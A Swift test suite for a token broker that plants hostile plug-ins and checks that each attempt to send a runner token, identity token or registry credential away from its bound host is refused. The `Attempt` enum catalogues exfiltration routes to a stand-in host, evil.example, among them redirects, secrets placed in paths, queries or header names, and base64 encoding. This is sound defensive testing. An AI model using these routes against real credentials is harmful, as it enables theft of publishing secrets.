import BrokerConformance
import BrokerCore
import Synchronization
import TestSupport
import Testing

@testable import TokenBroker

#if canImport(FoundationEssentials)
  import FoundationEssentials
#else
  import Foundation
#endif

/// Walks SECURITY.md's table of what leaves the process, with plug-ins that try to send each secret elsewhere.
struct SecretDestinationTests {
  /// The rows of the table: what is sent, and whether it is a secret.
  private static let rows: [(what: String, secret: PlantedSecret?)] = [
    ("`GET /_/oidc/audience`", nil),
    ("the runner's request token", .requestToken),
    ("a question whether a metadata server is there, without anything of the job", nil),
    ("the audience", nil),
    // It is bound as the request token is; GoogleTests follows it.
    ("the access token of the machine's service account", nil),
    ("the identity token", .identityToken),
    // It goes to no index: AttestTests follows it.
    ("an identity token made out to Sigstore", nil),
    ("the names of the projects that `exec` is to publish", nil),
    ("the name of the project in `registries.*.project` or `--project`", nil),
    (
      "a request of [the protocol](docs/plugin-protocol.md): an identity token to exchange, an API token to burn, what `settings` say",
      nil
    ),
    ("the API token", .credential),
    ("the hosts' names", nil),
  ]

  @Test("each row of SECURITY.md's table is walked here, and each secret has a row")
  func walksTheTable() throws {
    let file = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "../../SECURITY.md")
    let text = try String(contentsOf: file, encoding: .utf8)
    let section = try #require(text.firstRange(of: "## What leaves the process"))
    let lines = text[section.upperBound...].split(separator: "\n").drop { !$0.hasPrefix("|") }.prefix {
      $0.hasPrefix("|")
    }
    // Between one space after the first bar and one before the second.
    let whats = lines.dropFirst(2).map { line in String(line.split(separator: "|")[0].dropFirst().dropLast()) }
    #expect(whats == Self.rows.map(\.what))
    #expect(Set(Self.rows.compactMap(\.secret)) == Set(PlantedSecret.allCases))
  }

  @Test("a secret goes where it is bound to", arguments: PlantedSecret.allCases)
  func sendsASecretHome(_ secret: PlantedSecret) async throws {
    let run = await PlantedRun(secret, .home).run()
    #expect(run.error == nil)
    #expect(run.requests.map(\.url.origin) == [secret.home])
    #expect(run.requests.contains { $0.fields.contains { $0.value.reveal().hasSuffix(secret.text) } })
  }

  @Test("no plug-in sends a secret elsewhere", arguments: PlantedSecret.allCases, Attempt.hostile)
  func refusesEveryOtherPlace(_ secret: PlantedSecret, _ attempt: Attempt) async throws {
    let run = await PlantedRun(secret, attempt).run()
    let error = try #require(run.error, "it was sent")
    #expect(error.code == .pluginContract && error.status.rawValue == 9, "\(error)")
    #expect(error.message.contains(attempt.url(from: secret.home).origin.description), "\(error)")
    #expect(error.remedy?.contains("fault of the plug-in") == true && error.recovery == .none)
    SecretSearch([secret.text]).expectNone(in: error)
    // The first request of a plug-in that follows a redirect is a good one.
    #expect(run.requests.count == (attempt == .redirect ? 1 : 0))
    #expect(run.requests.allSatisfy { $0.url.origin == secret.home })
  }

  @Test("in a rehearsal, an identity token goes to the sandbox alone")
  func keepsARehearsalsTokenInTheSandbox() async throws {
    for (attempt, isRefused) in [(Attempt.home, false), (.host, true), (.port, true), (.scheme, true)] {
      let run = await PlantedRun(.identityToken, attempt, sandbox: .loopback(port: 4711)).run()
      #expect((run.error?.code == .pluginContract) == isRefused, "\(attempt): \(String(describing: run.error))")
      #expect(run.requests.map(\.url.origin) == (isRefused ? [] : [.loopback(port: 4711)]))
    }
  }

  @Test("a registry that stays away from the sandbox is not used in a rehearsal")
  func refusesARegistryThatIgnoresTheSandbox() async throws {
    var catalog = PluginCatalog()
    try catalog.add(
      RegistryType(
        PluginType("stray", summary: "goes to the real registry") { name, services in
          PlantedRegistry(name: name, secret: .identityToken, attempt: .home, services: services)
        }))
    let transport = ScriptedTransport { _ in
      .success(.json(#"{"version":1,"registries":{"stray":"http://127.0.0.1:4712"}}"#))
    }
    let broker = Broker(
      catalog: catalog, environment: Environment(["TOKEN_BROKER_SANDBOX": "http://127.0.0.1:4711"]),
      transport: transport, time: FakeTime().source())
    let configuration = try ConfigurationReader(catalog: catalog).read(
      Array(#"{"version":1,"registries":{"stray":{}}}"#.utf8), file: "f.json")
    let error = await failure { () async throws(BrokerError) in
      _ = try await broker.targets(["stray"], in: configuration)
    }
    #expect(error?.code == .pluginContract)
    #expect(error?.message.contains("https://registry.example") == true, "\(String(describing: error))")
  }

  @Test("a credential is handed over to one place")
  func handsACredentialOverOnce() throws {
    let url = HTTPURL(PlantedSecret.credential.home, path: "/")
    let made = try #require(
      Credential(
        registry: "r", secret: Secret(PlantedSecret.credential.text), username: "u", expires: UnixTime(0),
        uploadURL: url))
    let credential = made.bound(to: url.origin, in: SecretBindings())
    let folder = try TestFolder()
    defer { folder.remove() }
    func delivery(_ name: String) throws -> Delivery {
      try Delivery(
        Delivery.Choice(output: "\(folder.path)/\(name)", mayReveal: false, count: 1, isCI: false, isTerminal: false),
        runners: PluginCatalog(), environment: Environment())
    }
    _ = try delivery("one").deliver([credential])
    #expect(folder.read("one") == "\(PlantedSecret.credential.text)\n")
    let other = try delivery("two")
    let error = #expect(throws: BrokerError.self) { _ = try other.deliver([made]) }
    #expect(error?.code == .deliveryFailed && folder.read("two").isEmpty)
    #expect(throws: BrokerError.self) { try credential.handOver(to: .command("twine")) }
    #expect(throws: Never.self) { try made.handOver(to: .file("\(folder.path)/one")) }
  }

  @Test(
    "a registry's credential is for that registry", arguments: ["https://evil.example/", "https://registry.example/x"])
  func refusesACredentialForAnotherPlace(_ address: String) async throws {
    let run = await PlantedRun(.identityToken, .home, credentialURL: try HTTPURL(address)).run()
    #expect(run.error?.code == .pluginContract)
    #expect(run.error?.message.contains("expires by itself") == true)
  }
}

/// A secret of a run.
enum PlantedSecret: CaseIterable {
  case requestToken, identityToken, credential

  static let token = SampleToken.make(audience: "registry.example", identifier: "planted-0123456789")

  var text: String {
    switch self {
    case .requestToken: "request-token-of-the-runner-0123456789"
    case .identityToken: Self.token
    case .credential: "a-credential-of-the-registry-0123456789"
    }
  }

  /// Where it may go.
  var home: Origin { .https(host: self == .requestToken ? "runner.example" : "registry.example") }
}

/// How a plug-in sends a secret.
enum Attempt: CaseIterable {
  case home
  case host, subdomain, port, scheme, redirect, body, otherForm
  case address, addressAtHome, encodedAddress, plainBodyAtHome, plainField, plainBody, fieldName, base64, bindingAnew,
    bindingAnewInside

  static let hostile = allCases.filter { $0 != .home }

  /// Where it is sent.
  func url(from home: Origin) -> HTTPURL {
    let text =
      switch self {
      case .home, .addressAtHome, .plainBodyAtHome: "\(home)/x"
      case .subdomain: "https://evil.\(home.host)/x"
      case .port: "https://\(home.host):8443/x"
      case .scheme: home.isLoopback ? "https://\(home.authority)/x" : "http://127.0.0.1/x"
      default: "https://evil.example/x"
      }
    guard let url = try? HTTPURL(text) else { fatalError("no address: \(text)") }
    return url
  }

  /// Sends `secret`, which is bound to `home`.
  func send(_ secret: BoundSecret, of home: Origin, _ services: PluginServices) async throws(BrokerError) {
    let url = url(from: home)
    var fields: [HTTPRequest.Field] = []
    var body: HTTPRequest.Content?
    var address = url
    switch self {
    case .home, .host, .subdomain, .port, .scheme: fields = [HTTPRequest.Field("Authorization", secret.bearer)]
    case .redirect:
      let first = HTTPRequest(
        .get, HTTPURL(home, path: "/x"), fields: [HTTPRequest.Field("Authorization", secret.bearer)])
      guard let location = try? await services.transport.send(first).field("location"),
        let next = try? HTTPURL(location)
      else { throw BrokerError(.unreachable, "no redirect") }
      (address, fields) = (next, first.fields)
    case .body: body = .bound(secret.json("token"))
    case .otherForm: body = .bound(secret.map { "subject_token=\($0)&grant=x" })
    case .address, .addressAtHome: address = HTTPURL(url.origin, path: "/\(secret.reveal())/x")
    case .encodedAddress: address = url.settingQueryItem("token", secret.reveal())
    case .plainField: fields = [HTTPRequest.Field("X-Token", "Bearer \(secret.reveal())")]
    case .plainBody, .plainBodyAtHome: body = .plain("{\"token\":\"\(secret.reveal())\"}")
    case .fieldName: fields = [HTTPRequest.Field("X-\(secret.reveal())", "x")]
    case .base64:
      let text = Data("__token__:\(secret.reveal())".utf8).base64EncodedString()
      fields = [HTTPRequest.Field("Authorization", "Basic \(text)")]
    case .bindingAnew: body = .bound(services.bindings.bind(secret.text, to: url.origin))
    case .bindingAnewInside:
      body = .bound(services.bindings.bind(Secret("a secret: \(secret.reveal()), and more text"), to: url.origin))
    }
    _ = try await services.transport.answer(
      to: HTTPRequest(.post, address, fields: fields, body: body), purpose: "do this", now: services.time.now())
  }
}

/// A mint with plug-ins that send one of its secrets as they like.
struct PlantedRun {
  let secret: PlantedSecret
  let attempt: Attempt
  var sandbox: Origin?
  var credentialURL: HTTPURL?

  init(_ secret: PlantedSecret, _ attempt: Attempt, sandbox: Origin? = nil, credentialURL: HTTPURL? = nil) {
    self.secret = secret
    self.attempt = attempt
    self.sandbox = sandbox
    self.credentialURL = credentialURL
  }

  func run() async -> (error: BrokerError?, requests: [HTTPRequest]) {
    let transport = ScriptedTransport { request in
      attempt == .redirect
        ? .success(HTTPResponse(status: 307, fields: [("Location", "https://evil.example/x")])) : .success(.json("{}"))
    }
    let time = FakeTime().source()
    let bindings = SecretBindings()
    let services = PluginServices(transport: transport, time: time, rehearsalOrigin: sandbox, bindings: bindings)
    let registry = PlantedRegistry(
      name: "planted", secret: secret, attempt: attempt, services: services, sandbox: sandbox,
      credentialURL: credentialURL)
    let source = PlantedSource(secret: secret, attempt: attempt, services: services, isRehearsal: sandbox != nil)
    let burnError = Mutex<BrokerError?>(nil)
    let engine = Engine(time: time, isRehearsal: sandbox != nil, bindings: bindings) { event in
      if case .burnFailed(_, let error) = event { burnError.withLock { $0 = error } }
    }
    let error = await failure { () async throws(BrokerError) in
      let credentials = try await engine.mint([Target(registry)], from: source).credentials.get()
      if secret == .credential { await engine.burn(credentials, at: [Target(registry)]) }
    }
    return (error ?? burnError.withLock { $0 }, transport.requests)
  }
}

/// A provider's source that sends its request token as it likes.
struct PlantedSource: IdentityTokenSource {
  let secret: PlantedSecret
  let attempt: Attempt
  let services: PluginServices
  let isRehearsal: Bool

  var identityVariables: [String] { [] }
  func supply(for audience: Audience) -> IdentityTokenSupply { .renewable }
  func job(from claims: Claims) -> JobIdentity { JobIdentity(family: IssuerFamily("Planted")) }

  func identityToken(for audience: Audience) async throws(BrokerError) -> IdentityToken {
    if secret == .requestToken {
      let home = PlantedSecret.requestToken.home
      let bound = services.bindings.bind(Secret(PlantedSecret.requestToken.text), to: home)
      try await attempt.send(bound, of: home, services)
    }
    let token =
      isRehearsal
      ? SampleToken.make(audience: audience.value, isRehearsal: true) : PlantedSecret.token
    return try IdentityToken(Secret(token), from: "It")
  }
}

/// A registry that sends the identity token or its credential as it likes.
struct PlantedRegistry: Registry {
  let name: String
  let secret: PlantedSecret
  let attempt: Attempt
  let services: PluginServices
  var sandbox: Origin?
  var credentialURL: HTTPURL?

  var home: Origin { PlantedSecret.identityToken.home }
  var uploadURL: HTTPURL { HTTPURL(sandbox ?? home, path: "/upload") }
  var audience: AudienceSource { .known("registry.example") }
  var capabilities: RegistryCapabilities {
    RegistryCapabilities(revoke: { (credential) async throws(BrokerError) in
      try await attempt.send(credential, of: home, services)
    })
  }

  func exchange(_ token: IdentityToken, for _: Scope) async throws(BrokerError) -> Credential {
    if secret == .identityToken { try await attempt.send(token.bound, of: uploadURL.origin, services) }
    guard
      let credential = Credential(
        registry: name, secret: Secret(PlantedSecret.credential.text), username: "x", expires: UnixTime(1_795_000_900),
        uploadURL: credentialURL ?? uploadURL)
    else { throw BrokerError(.registryAnswerInvalid, "no credential") }
    return credential
  }
}
